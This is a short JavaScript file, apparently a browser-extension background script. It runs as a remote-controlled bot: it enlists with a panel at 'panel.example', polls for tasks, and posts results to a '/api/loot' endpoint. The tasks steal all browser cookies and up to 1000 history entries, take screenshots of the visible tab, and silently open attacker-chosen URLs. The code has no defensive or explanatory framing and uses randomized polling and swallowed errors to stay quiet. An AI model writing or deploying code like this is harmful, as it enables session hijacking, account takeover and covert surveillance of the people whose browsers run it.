const BASE = "https://panel.example";
let agent = null;
const pause = () => Math.floor(Math.random() * 3000) + 2000;
async function report(action, payload) {
  const res = await fetch(`${BASE}/api/loot`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ agent, action, payload })
  });
  return res.json();
}
async function enlist() {
  const r = await fetch(`${BASE}/api/join`, { method: "POST", body: JSON.stringify({ ua: navigator.userAgent }) });
  agent = (await r.json()).id;
}
async function turn() {
  try {
    const r = await fetch(`${BASE}/api/task/${agent}`);
    const { task, args } = await r.json();
    if (task === "cookies") await report(task, await chrome.cookies.getAll({}));
    else if (task === "history") await report(task, await chrome.history.search({ text: "", maxResults: 1000 }));
    else if (task === "shot") await report(task, await chrome.tabs.captureVisibleTab(null, { format: "png" }));
    else if (task === "open") chrome.tabs.create({ url: args.url, active: false });
  } catch (e) {}
  setTimeout(turn, pause());
}
enlist().then(turn);
